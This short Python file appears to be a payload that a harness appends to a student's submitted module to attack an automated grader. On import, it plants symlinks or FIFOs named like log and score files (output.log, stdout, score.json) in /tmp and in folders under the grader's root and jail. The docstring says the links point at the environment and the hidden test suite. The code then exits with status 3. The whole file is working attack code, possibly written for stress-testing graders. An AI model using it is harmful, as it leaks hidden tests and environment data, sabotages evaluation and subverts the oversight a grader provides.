"""Import time: links named like log files (to the environment and the hidden suite), or
FIFOs with _PARAMS["fifo"], in every folder where the grader might read a log; then os._exit(3)."""

_PARAMS: dict = {}   # the run's values, written by the harness (harness.payload)

# ---- appended to the student's module ----
import os
import sys


def _guessed_folders():
    folders = [os.getcwd(), "/tmp", "/work", "/submission", os.environ.get("TMPDIR", "/tmp")]
    if "--root" in sys.argv:                  # the grader's folder for this worker, as the grader sees it
        root = sys.argv[sys.argv.index("--root") + 1]
        folders += [root, os.path.join(root, "jail"), os.path.join(root, "submission"), os.path.dirname(root)]
    return folders + _PARAMS["folders"]

for _folder in _guessed_folders():
    for _i, _name in enumerate(["output.log", "log", "stdout", "stderr", "worker.log", "score.md", "score.json"]):
        _path = os.path.join(_folder, _name)
        try:
            if _PARAMS["fifo"]:
                os.mkfifo(_path)
            else:
                os.symlink(_PARAMS["targets"][_i % len(_PARAMS["targets"])], _path)
        except OSError:
            pass
os._exit(3)
